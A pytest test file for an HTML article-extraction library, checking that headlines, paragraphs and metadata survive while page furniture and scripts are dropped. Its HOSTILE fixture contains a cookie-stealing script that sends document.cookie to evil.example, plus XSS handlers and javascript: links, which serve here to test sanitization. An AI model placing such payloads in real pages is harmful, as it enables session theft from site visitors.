"""HTML pages through trafilatura: the article's text and metadata, none of the page's furniture.

The extracted text, one blank line between paragraphs and headings, becomes the article's text;
the page's title is its headline. Scripts, event handlers and javascript: links never reach it.
"""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

import workbench
from workbench import LoadError

EXAMPLE = Path(__file__).resolve().parent.parent / "sample_articles" / "example.html"

PARAGRAPHS = [
    "The town council of Harbor Town voted 5 to 2 on Wednesday night to rebuild the crumbling seawall "
    "that protects its fishing pier, ending a debate that has run for almost three years.",
    "The project is expected to cost about $4.2 million, most of it covered by a state resilience grant. "
    "Work could begin in the autumn, once the fishing season ends.",
]

HOSTILE = """<!DOCTYPE html>
<html><head><title>Council Delays Vote on Bridge Repairs</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body>
<nav><a href="javascript:alert('nav')">Menu</a></nav>
<article>
<h1>Council Delays Vote on Bridge Repairs</h1>
<p>The city council postponed its vote on the bridge repairs until next month, citing new cost estimates
from the engineering firm it hired in the spring.</p>
<p onclick="alert('p')">Engineers said the bridge remains safe for traffic <img src="x.png" onerror="alert('img')">
but needs new bearings within two years. <a href="javascript:alert('link')">Read the report</a> here.</p>
<iframe src="https://ads.example/frame"></iframe>
<script>document.write('<p>Injected paragraph from a script</p>')</script>
<p>A security researcher wrote &lt;script&gt;alert(1)&lt;/script&gt; in a comment to show the old site was vulnerable.</p>
</article>
</body></html>
"""


@pytest.fixture(scope="module")
def example() -> workbench.Article:
    return workbench.load(EXAMPLE)


def test_example_page_blocks_are_headline_paragraphs_and_the_section_heading(example):
    kinds = [(b.kind, example.slice(b)) for b in example.blocks]
    assert kinds[0] == ("headline", "Harbor Town Votes to Rebuild Its Seawall")
    assert [example.slice(b) for b in example.body][:2] == PARAGRAPHS
    assert ("heading", "A close vote after a stormy winter") in kinds  # an <h2>, though in sentence case
    assert [s.index for s in example.sections] == [0, 1]
    assert len(example.body) == 5


def test_example_page_metadata(example):
    meta = example.meta
    assert meta.title == "Harbor Town Votes to Rebuild Its Seawall"
    assert meta.author == "Dana Whitfield"
    assert meta.date == date(2024, 3, 14)
    assert meta.outlet == "The Coastal Ledger"
    assert meta.url == "https://ledger.example.org/2024/03/14/harbor-town-seawall"
    assert meta.source_path == str(EXAMPLE)


def test_the_extracted_text_is_the_articles_text_with_blank_lines_between_blocks(example):
    assert not example.meta.text_is_file  # the export must carry the text
    assert example.text.startswith("Harbor Town Votes to Rebuild Its Seawall\n\nThe town council")
    for before, after in zip(example.blocks, example.blocks[1:]):
        assert example.text[before.end : after.start] == "\n\n"


@pytest.mark.parametrize(
    "furniture",
    [
        "Home",
        "Subscribe",
        "Share on Social",
        "Email this article",
        "Copy link",
        "Related stories",
        "Storm floods downtown streets",
        "All rights reserved",
        "We use cookies",
        "Injected by a script",
        "dataLayer",
        "Ledger photo",
    ],
)
def test_page_furniture_is_left_out(example, furniture):
    assert furniture not in example.text


def test_scripts_handlers_and_javascript_links_never_reach_the_text(tmp_path):
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE, encoding="utf-8")
    article = workbench.load(path)
    for hostile in (
        "fetch(",
        "document.cookie",
        "onerror",
        "onclick",
        "javascript:",
        "alert('",
        "<iframe",
        "<img",
        "Injected paragraph",
        "background:",
    ):
        assert hostile not in article.text
    assert "Engineers said the bridge remains safe for traffic" in article.text
    assert "Read the report here." in article.text  # a link's words stay, its target goes


def test_markup_the_page_shows_as_text_stays_text(tmp_path):
    """Escaped markup is part of what the reader sees: it is kept, as characters, never as a tag
    (widgets escape all article text when they render it)."""
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE, encoding="utf-8")
    article = workbench.load(path)
    assert "wrote <script>alert(1)</script> in a comment" in article.text


def test_the_title_opens_the_text_when_the_body_has_no_headline(tmp_path):
    page = (
        "<html><head><title>Ferry Service Resumes After Repairs.</title></head><body><article>"
        "<p>The ferry between the two islands resumed service on Monday after three weeks of repairs "
        "to its engines, the operator said in a statement.</p>"
        "<p>Passengers had used a smaller boat while the ferry was in dock, and many complained of delays.</p>"
        "</article></body></html>"
    )
    article = workbench.load_text(page, format="html", name="ferry.html")
    headline = article.headline
    assert article.text.startswith("Ferry Service Resumes After Repairs.\n\n")
    assert (headline.index, article.slice(headline)) == (0, "Ferry Service Resumes After Repairs.")
    assert article.meta.title == "Ferry Service Resumes After Repairs."


def test_metadata_given_by_the_caller_wins(example):
    article = workbench.load(EXAMPLE, outlet="Ledger (print)", title="Seawall vote")
    assert article.meta.outlet == "Ledger (print)" and article.meta.title == "Seawall vote"
    assert article.meta.author == "Dana Whitfield"


def test_an_html_file_with_a_txt_name_is_recognised_by_its_content(tmp_path):
    path = tmp_path / "saved-page.txt"
    path.write_text(EXAMPLE.read_text(encoding="utf-8"), encoding="utf-8")
    assert workbench.load(path).meta.title == "Harbor Town Votes to Rebuild Its Seawall"


def test_a_page_without_an_article_is_an_error_naming_the_file(tmp_path):
    path = tmp_path / "menu.html"
    path.write_text(
        '<html><body><nav><a href="/">Home</a> <a href="/news">News</a></nav></body></html>', encoding="utf-8"
    )
    with pytest.raises(LoadError, match=r"menu\.html: no article text could be extracted from the HTML page"):
        workbench.load(path)


def test_readability_and_sentences_work_on_an_html_article(example):
    from workbench.analysis.readability import readability

    report = readability(example)
    assert len(report.paragraphs) == len(example.body)
    quote = next(b for b in example.body if example.slice(b).startswith("“We cannot"))
    assert [example.slice(s) for s in example.sentences_in(quote)] == [
        "“We cannot keep patching a wall that was built for the weather of 1950,” said Mayor Ruth Okafor, "
        "who voted in favor.",
        "“The February storm showed us what happens when we wait.”",
    ]


def test_a_pasted_fragment_without_html_or_body_tags_loads():
    article = workbench.load_text(
        "<p>The council met on Monday and approved the budget.</p><p>It takes effect in July.</p>", format="html"
    )
    assert article.text == "The council met on Monday and approved the budget.\n\nIt takes effect in July.\n"


def test_without_a_title_or_heading_a_short_first_paragraph_stays_a_paragraph():
    """The page's markup, not the look of the first line, says what the headline is."""
    article = workbench.load_text(
        "<p>The council met on Monday and approved the budget.</p><p>It takes effect in July.</p>", format="html"
    )
    assert [b.kind for b in article.blocks] == ["paragraph", "paragraph"]
    assert article.headline is None and article.meta.title is None


# --- the body is never lost silently: plain text when the extraction keeps much less ----------------

DEEP_SENTENCE = 'The mayor said "hello" to reporters on Monday.'


def nested_page(depth: int) -> str:
    return (
        "<html><head><title>Deep page</title><script>var x = 1;</script></head><body><article><h1>Nested</h1>"
        + "<div>" * depth
        + f"<p>{DEEP_SENTENCE}</p><script>alert('deep')</script><style>p {{ color: red }}</style>"
        + "</div>" * depth
        + "<p>After the nesting.</p></article><nav><a href='/'>Home</a></nav></body></html>"
    )


@pytest.mark.parametrize("depth", [300, 3_000, 200_000])
def test_html_nested_deeper_than_the_parser_goes_keeps_its_body_and_says_so(tmp_path, depth):
    path = tmp_path / "nested.html"
    path.write_text(nested_page(depth), encoding="utf-8")
    article = workbench.load(path)
    assert article.text == f"Nested\n\n{DEEP_SENTENCE}\n\nAfter the nesting.\n"
    assert [b.kind for b in article.blocks] == ["headline", "paragraph", "paragraph"]
    assert article.meta.notes == (
        "read as plain text (scripts, styles and navigation dropped) because the page nests elements "
        "deeper than the HTML parser's limit of 256",
    )


def test_a_page_whose_extraction_keeps_under_a_tenth_of_its_paragraphs_is_read_as_plain_text():
    paragraph = "<p>The harbour board said on Tuesday that repairs to the northern pier would take months.</p>"
    page = (
        f"<html><head><title>Pier</title></head><body><div class='share-buttons'>{paragraph * 20}</div></body></html>"
    )
    article = workbench.load_text(page, format="html", name="pier.html")
    assert article.text.count("repairs to the northern pier") == 20
    assert article.meta.notes[0].startswith("read as plain text (scripts, styles and navigation dropped) because")
    sentence = "The harbour board said on Tuesday that repairs to the northern pier would take months."
    assert (
        f"kept {len(sentence)} characters of the page's {20 * len(sentence):,} in paragraphs" in article.meta.notes[0]
    )


def test_a_page_trafilatura_reads_well_is_not_second_guessed(example, tmp_path):
    assert example.meta.notes == ()
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE, encoding="utf-8")
    assert workbench.load(path).meta.notes == ()


def test_the_plain_text_reader_drops_scripts_styles_handlers_and_furniture():
    from workbench.load.html_text import page_text

    page = page_text(HOSTILE)
    text = "\n".join(part for _, part in page.parts)
    for hostile in ("fetch(", "document.cookie", "onerror", "javascript:", "Injected paragraph", "background:", "Menu"):
        assert hostile not in text
    assert "Engineers said the bridge remains safe for traffic" in text
    assert "wrote <script>alert(1)</script> in a comment" in text  # escaped markup is text
    assert page.title == "Council Delays Vote on Bridge Repairs"
    assert page.parts[0] == ("head", "Council Delays Vote on Bridge Repairs")
